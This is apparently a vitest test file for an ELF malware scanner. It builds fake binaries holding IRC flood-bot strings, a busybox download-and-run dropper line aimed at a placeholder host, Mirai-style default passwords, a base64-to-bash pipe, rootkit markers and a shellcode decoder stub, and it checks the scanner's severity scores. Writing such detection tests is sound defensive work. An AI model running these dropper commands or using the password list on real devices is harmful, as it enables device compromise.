import { randomBytes } from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { requireCorpus } from '../../test/helpers/fixtures.ts';
import { analyseElf, parseElf } from './elf.ts';
import { xorHiddenWords } from './strings.ts';

const TRUE = fs.readFileSync('/usr/bin/true');
const info = parseElf(TRUE)!;
const withStrings = (...strings: string[]) => Buffer.concat([TRUE, Buffer.from(`\0${strings.join('\0')}\0`, 'latin1')]);
const judge = (bytes: Buffer, over: Partial<typeof info> = {}) => analyseElf(bytes, { ...parseElf(bytes)!, ...over });
const scoreOf = (bytes: Buffer, over: Partial<typeof info> = {}) => judge(bytes, over).findings.find((f) => f.rule === 'elf.score');

describe('ELF techniques', () => {
  it('an ordinary binary scores nothing', () => {
    expect(judge(TRUE).score).toBe(0);
  });

  it('an IRC flood bot is malicious', () => {
    const bot = withStrings('NOTICE %s :UDP <target> <port> <secs> = A udp flooder', 'NOTICE %s :SYN flood', 'PRIVMSG %s :x', 'JOIN %s :%s', 'NICK %s');
    expect(scoreOf(bot)).toMatchObject({ severity: 'high' });
    expect(judge(bot).indicators).toEqual(expect.arrayContaining(['attack-methods', 'irc-bot']));
  });

  it('a busybox dropper line with a password list is malicious', () => {
    const bot = withStrings('/bin/busybox wget http://x/bins/a.mips -O .t; /bin/busybox chmod 777 .t; ./.t', 'xc3511', 'vizxv', '888888', 'xmhdipc', 'juantech', 'default');
    expect(judge(bot).indicators).toEqual(expect.arrayContaining(['download-and-run', 'busybox', 'password-list']));
    expect(scoreOf(bot)).toMatchObject({ severity: 'high' });
  });

  it('base64 piped into a shell is malicious', () => {
    expect(scoreOf(withStrings("echo aGVsbG8K|base64 -d|bash"))).toMatchObject({ severity: 'high' });
  });

  it('finds XOR-hidden words where a byte-by-byte search does, past matches under key 0 or 0x20', () => {
    const bySearch = (bytes: Buffer, words: string[]) =>
      words.flatMap((word) => {
        for (let key = 1; key < 256; key++) if (key !== 0x20 && bytes.includes(Buffer.from(Array.from(Buffer.from(word, 'latin1'), (c) => c ^ key)))) return [word];
        return [];
      });
    const xor = (s: string, k: number) => Buffer.from(Array.from(Buffer.from(s, 'latin1'), (c) => c ^ k));
    let seed = 7;
    const noise = Buffer.from(Array.from({ length: 200_000 }, () => (seed = (seed * 1103515245 + 12345) % 2 ** 31) & 0xff));
    const planted = Buffer.concat([noise, Buffer.from('/bin/busybox'), xor('WATCHDOG', 0x20), noise.subarray(0, 5000), xor('watchdog', 0x17), xor('/proc/net/tcp', 0xff)]);
    const words = ['/bin/busybox', 'watchdog', '/proc/', '/proc/net/tcp', 'Mozilla/', 'stratum+tcp'];
    expect(xorHiddenWords(planted).map((h) => h.word).sort()).toEqual(bySearch(planted, words).sort());
    expect(xorHiddenWords(planted)).toEqual(expect.arrayContaining([{ word: 'watchdog', key: 0x17 }, { word: '/proc/net/tcp', key: 0xff }]));
  });

  it('finds technique words hidden with a one-byte XOR key', () => {
    const xor = (s: string, k: number) => Buffer.from(Array.from(Buffer.from(s), (c) => c ^ k));
    const bot = Buffer.concat([TRUE, xor('Mozilla/5.0 (X11)', 0x54), Buffer.from([0]), xor('/dev/watchdog', 0x54)]);
    // Decoded, the hidden /dev/watchdog counts as the watchdog technique too.
    expect(judge(bot).indicators).toEqual(expect.arrayContaining(['xor-hidden-strings', 'watchdog']));
    expect(scoreOf(bot)).toMatchObject({ severity: 'high' });
  });

  it('a coin miner is suspicious', () => {
    expect(scoreOf(withStrings('--donate-level=N  donate level', 'stratum+tcp://pool:3333'))).toMatchObject({ severity: 'medium' });
  });

  it('DirtyCow (/proc/self/mem with madvise) is suspicious', () => {
    const exploit = withStrings('/proc/self/mem', 'madvise %d');
    expect(scoreOf(exploit, { imports: ['madvise', 'pthread_create', 'open', 'lseek', 'write'] })).toMatchObject({ severity: 'medium' });
  });

  it('an LD_PRELOAD rootkit that replaces readdir is suspicious', () => {
    const rootkit = withStrings('/proc/%d/fd', '/etc/ld.so.preload');
    expect(scoreOf(rootkit, { type: 'shared-object', imports: ['dlsym', 'strcmp'], exports: ['readdir', 'readdir64', 'fopen'] })).toMatchObject({ severity: 'high' });
    // A library that only exports its own API stays clean.
    expect(scoreOf(TRUE, { type: 'shared-object', imports: ['dlsym'], exports: ['lzma_code', 'lzma_end'] })).toBeUndefined();
  });

  it('a kernel module hooking the system-call table is malicious', () => {
    const lkm = withStrings('sys_call_table', 'hacked_getdents64', 'module_hide');
    expect(scoreOf(lkm, { type: 'relocatable' })).toMatchObject({ severity: 'high' });
  });

  it('a tiny section-less ELF with a GetPC decoder is a stager', () => {
    const elf = Buffer.alloc(277);
    Buffer.from('7f454c46020101', 'hex').copy(elf);
    elf.writeUInt16LE(2, 16);
    elf.writeUInt16LE(62, 18);
    elf.writeBigUInt64LE(0x400078n, 24);
    elf.writeBigUInt64LE(64n, 32); // e_phoff
    elf.writeUInt16LE(56, 54);
    elf.writeUInt16LE(1, 56);
    elf.writeUInt32LE(1, 64); // PT_LOAD
    elf.writeUInt32LE(7, 68);
    elf.writeBigUInt64LE(0x400000n, 80);
    elf.writeBigUInt64LE(277n, 96);
    Buffer.from('dbdcd97424f45a', 'hex').copy(elf, 0x78);
    expect(judge(elf).findings.map((f) => f.rule)).toContain('elf.stager');
    elf.fill(0x90, 0x78);
    expect(judge(elf).findings.map((f) => f.rule)).not.toContain('elf.stager');
  });
});

describe('benign ELF from the corpus', () => {
  it('UPX-packed tools, static builds and libraries score below suspicious', (context) => {
    const dir = path.join(requireCorpus(context), 'benign', 'elf');
    const files = fs.readdirSync(dir);
    expect(files.length).toBeGreaterThan(5);
    for (const name of files) {
      const bytes = fs.readFileSync(path.join(dir, name));
      const score = judge(bytes).findings.find((f) => f.rule === 'elf.score');
      expect(score?.severity ?? 'low', name).toBe('low');
    }
  });
});

describe('hidden and encrypted content', () => {
  const xor = (s: string, k: number) => Buffer.from(Array.from(Buffer.from(`${s}\0`), (c) => c ^ k));

  it("a Mirai-style XOR table is read as text: its flood payloads count too", () => {
    const table = ['/proc/net/tcp', '/etc/resolv.conf', 'TSource Engine Query', 'Connection: keep-alive', 'server: dosarrest'].map((s) => xor(s, 0x22));
    const bot = Buffer.concat([TRUE, ...table]);
    expect(judge(bot).indicators).toEqual(expect.arrayContaining(['xor-hidden-strings', 'flood-payloads']));
    expect(scoreOf(bot)).toMatchObject({ severity: 'high' });
  });

  it('a small static program whose .data is an encrypted blob is suspicious', () => {
    const blob = randomBytes(4096);
    const wrapper = Buffer.concat([TRUE, blob]);
    const layout = { interpreter: null, imports: [], sectionExtents: [{ name: '.text', offset: 0, size: 8000 }, { name: '.data', offset: TRUE.length, size: blob.length }] };
    expect(judge(wrapper, layout).indicators).toContain('encrypted-data-wrapper');
    expect(scoreOf(wrapper, layout)).toMatchObject({ severity: 'medium' });
    // Plain data stays clean.
    expect(judge(Buffer.concat([TRUE, Buffer.alloc(4096, 'config=1;')]), layout).indicators).not.toContain('encrypted-data-wrapper');
  });
});

describe('IoT droppers', () => {
  it('busybox fetch and chmod 777 in separate strings still count', () => {
    const bot = withStrings('/bin/busybox tftp -r ', '/bin/busybox wget http://', '/bin/busybox chmod 777 .t');
    expect(judge(bot).indicators).toEqual(expect.arrayContaining(['busybox', 'busybox-dropper']));
    expect(scoreOf(bot)).toMatchObject({ severity: 'medium' });
  });
});
